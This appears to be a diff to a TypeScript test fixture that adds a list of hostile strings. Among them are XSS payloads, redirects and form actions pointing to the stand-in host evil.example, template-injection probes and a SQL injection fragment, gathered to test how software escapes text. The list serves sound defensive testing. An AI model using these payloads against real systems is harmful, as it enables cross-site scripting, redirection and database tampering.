@@ -32,3 +32,32 @@ export const hostileMarkdown = [
   '',
   `[ref]: javascript:pwned='reference' "' onmouseover='pwned=4"`,
 ].join('\n');
+
+/** One line each: what breaks a program that puts text into HTML, Markdown, JSON, a citation or a template without care. */
+export const hostileLines = [
+  ...hostilePieces,
+  `"><script>pwned = 'closing'</script>`,
+  `'><svg/onload=pwned='slash'>`,
+  `<a href="data:text/html,<script>pwned='data'</script>">x</a>`,
+  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
+  `<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>`,
+  `<base href="https://evil.example/"><form action="https://evil.example/"><input autofocus onfocus=pwned=1>`,
+  `<math><mi xlink:href="javascript:pwned='math'">x</mi></math><object data="javascript:pwned='object'">`,
+  `[runs](javascript:pwned='md') ![picture](https://evil.example/x.png) <https://evil.example/>`,
+  '[^c1]: mine ^[inline] [^c1]',
+  '| a | b |',
+  '```',
+  '# head',
+  '> quote',
+  '1. one',
+  '- item',
+  '***bold*** __b__ ~~gone~~ `code` $x$ \\*',
+  '&lt;b&gt; &copy; &#0; &#x3c;script&#x3e; %3Cscript%3E',
+  `<i>Homo</i> <b>x</b> <sc>y</sc> <span class="nocase">z</span> $& $1 $$`,
+  `{{7*7}} #{alert(1)} %s %d %n {0} ' OR 1=1 -- ; DROP TABLE claims`,
+  'undefined null NaN __proto__ constructor hasOwnProperty',
+  '“quoted” "straight" ’single’ «guillemets» a -- b … , ;',
+  '👩‍👩‍👧 🇦🇹 Ｆｕｌｌ ﷺ Z̷a̷l̷g̷o̷ 田中さん שלום مرحبا \u202ereversed\u202c \u200bzero\u200b',
+  'half \ud83d a letter',
+  strangeLetters,
+] as const;
